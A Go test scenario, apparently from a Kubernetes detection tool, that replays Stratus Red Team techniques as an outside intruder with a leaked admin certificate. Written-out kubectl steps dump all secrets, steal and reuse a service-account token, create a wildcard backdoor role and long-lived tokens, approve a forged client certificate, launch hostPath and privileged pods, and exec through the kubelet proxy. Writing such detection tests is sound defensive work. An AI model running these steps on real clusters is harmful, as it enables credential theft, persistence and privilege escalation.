package play

import (
	"fmt"

	"github.com/lynceus-io/lynceus/test/scenarios/stage"
)

// attackerHome is where intruders of the outside sit.
const attackerHome = "203.0.113.66"

// Stratus plays the eight Kubernetes techniques of Stratus Red Team with the leaked certificate of an administrator.
func Stratus(s *stage.Stage) {
	c := Found(s)
	thief := c.Mira.At(s.Outside("mallory", attackerHome))

	s.Attack("T1552.007", "Credential Access: List Kubernetes secrets", "dumps the secrets of all namespaces").
		As(thief).Do(func(a *stage.Act) { a.Must("get", "secrets", "-A", "-o", "json") })

	api := s.Pod("payments", "app=api")
	var stolen string
	s.Attack("T1552.007", "Credential Access: Access container service account", "reads a service account's token by exec in "+api.String()).
		As(thief).On(api).Do(func(a *stage.Act) {
		stolen = a.Must("-n", api.Namespace, "exec", api.Name, "--", "cat", stage.TokenFile)
	})
	s.Attack("T1550.001", "Credential Access: Access container service account", "uses the stolen token from outside").
		As(s.Bearer(thief.In, stolen, api).By("mira.holm")).Do(func(a *stage.Act) {
		a.Kubectl("auth", "whoami")
		a.Kubectl("-n", "payments", "get", "pods,secrets")
	})

	s.Attack("T1098.006", "Persistence: Backdoor account", "makes a cluster role that may do everything, an account, and binds them").
		As(thief).Do(func(a *stage.Act) {
		a.Must("create", "clusterrole", "cluster-maintenance", "--verb=*", "--resource=*.*")
		a.Must("-n", "kube-system", "create", "serviceaccount", "cluster-maintenance")
		a.Must("create", "clusterrolebinding", "cluster-maintenance", "--clusterrole=cluster-maintenance", "--serviceaccount=kube-system:cluster-maintenance")
	})
	s.Attack("T1098", "Persistence: Backdoor account", "makes a long-lived token for it and reads it").
		As(thief).Do(func(a *stage.Act) {
		a.MustApply(longLivedToken("kube-system", "cluster-maintenance"), "create", "-f", "-")
		s.Sleep(settled)
		a.Must("-n", "kube-system", "get", "secret", "cluster-maintenance-token", "-o", "json")
	})

	s.Attack("T1649", "Persistence: Create client certificate", "has a client certificate signed and approves it").
		As(thief).Do(func(a *stage.Act) {
		a.Apply(certificateRequest("mallory-masters", clientSigner, clientUsage, "mallory", "system:masters"), "create", "-f", "-") // refused
		a.MustApply(certificateRequest("mallory", clientSigner, clientUsage, "system:kube-controller-manager"), "create", "-f", "-")
		a.Must("certificate", "approve", "mallory")
		a.Must("get", "csr", "mallory", "-o", "json")
	})
	s.Attack("T1098.001", "Persistence: Create token", "makes a long-lived token of a system account").
		As(thief).Do(func(a *stage.Act) {
		a.Must("-n", "kube-system", "create", "token", "clusterrole-aggregation-controller", "--duration=24h")
	})

	s.Attack("T1610", "Privilege Escalation: hostPath mount", "runs a pod that mounts the node's file system").
		As(thief).Do(func(a *stage.Act) {
		a.MustApply(hostPathPod("default", "node-check", imageAlpine), "create", "-f", "-")
	})
	s.Wrote(thief, "default", "Pod/node-check")
	check := s.PodNamed("default", "node-check")
	s.Attack("T1611", "Privilege Escalation: hostPath mount", "lists the files of the node's pods there").
		As(thief).On(check).Do(func(a *stage.Act) { a.Must("exec", "node-check", "--", "ls", "/host/var/lib/kubelet/pods") })
	s.Attack("T1610", "Privilege Escalation: Privileged container", "runs a privileged pod in the node's namespaces").
		As(thief).Do(func(a *stage.Act) { a.MustApply(privilegedPod("default", "node-shell"), "create", "-f", "-") })

	s.Attack("T1613", "Discovery: Access Kubelet API", "reads pods and configuration of the kubelet through nodes/proxy").
		As(thief).Do(func(a *stage.Act) {
		for _, path := range []string{"runningpods/", "pods", "configz"} {
			a.Must("get", "--raw", "/api/v1/nodes/node1/proxy/"+path)
		}
	})
	s.Attack("T1609", "Execution: Exec into container", "runs a command in "+api.String()+" through nodes/proxy").
		As(thief).On(api).Do(func(a *stage.Act) {
		a.Request("curl/8.5.0", "POST", fmt.Sprintf("/api/v1/nodes/node1/proxy/run/%s/%s/api?cmd=id", api.Namespace, api.Name), "")
	})
}
